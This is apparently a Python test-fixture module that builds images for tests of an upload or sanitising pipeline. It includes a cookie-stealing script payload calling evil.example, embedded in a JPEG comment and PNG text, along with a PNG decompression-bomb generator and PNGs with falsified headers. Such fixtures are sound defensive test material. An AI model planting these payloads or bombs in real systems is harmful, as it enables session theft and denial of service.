"""Pictures for tests: honest ones, and ones that are not what they say."""

import io
import struct
import zlib

from PIL import Image, PngImagePlugin

SIZE = (600, 800)
JPEG, PNG = "image/jpeg", "image/png"
SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"
GPS_IFD, GPS_LATITUDE, ORIENTATION, MAKER = 0x8825, 2, 0x0112, 0x010F


def written(image, form="JPEG", **more):
    """Return a picture's bytes."""
    out = io.BytesIO()
    image.save(out, form, **more)
    return out.getvalue()


def painted(color=(30, 90, 160), size=SIZE, form="JPEG", **more):
    """Return a picture of one colour with a white corner, top left."""
    image = Image.new("RGB", size, color)
    image.paste((255, 255, 255), (0, 0, size[0] // 4, size[1] // 4))
    return written(image, form, **more)


def located():
    """Return a photograph that says where and by which camera it was taken, and lies on its side.

    Its comment, its profile and its thumbnail are places for more.
    """
    exif = Image.Exif()
    exif[MAKER] = "CanaryCamera"
    exif[ORIENTATION] = 6
    exif.get_ifd(GPS_IFD)[GPS_LATITUDE] = (31.0, 13.0, 48.0)
    image = Image.new("RGB", (800, 600), (30, 90, 160))
    image.paste((255, 255, 255), (0, 0, 200, 150))
    return written(
        image, exif=exif, comment=b"CanaryComment " + SCRIPT, icc_profile=b"CanaryProfile"
    )


def noted():
    """Return a PNG with a script in its text."""
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", SCRIPT.decode())
    return written(Image.new("RGB", SIZE, (9, 9, 9)), "PNG", pnginfo=info)


def chunk(name, body):
    """Return one part of a PNG."""
    crc = zlib.crc32(name + body)
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", crc)


def claims(width, height, body=b""):
    """Return a tiny PNG whose header says another size, and whose data are what is given."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = (chunk(b"IHDR", head), chunk(b"IDAT", body or zlib.compress(b"\0" * 64)))
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts) + chunk(b"IEND", b"")


def text_bomb(size=200_000_000):
    """Return a small PNG whose compressed text is very large."""
    work = zlib.compressobj(9)
    packed = b"".join([work.compress(b"\0" * 1_000_000) for _ in range(size // 1_000_000)])
    text = chunk(b"zTXt", b"Comment\0\0" + packed + work.flush())
    whole = painted(form="PNG")
    return whole[:33] + text + whole[33:]


def moving(form="PNG"):
    """Return a picture that moves."""
    frames = [Image.new("RGB", SIZE, (shade, 0, 0)) for shade in (10, 200)]
    return written(frames[0], form, save_all=True, append_images=frames[1:], duration=100)


def corner(body):
    """Return the first pixel of a picture."""
    return Image.open(io.BytesIO(body)).convert("RGB").getpixel((20, 20))
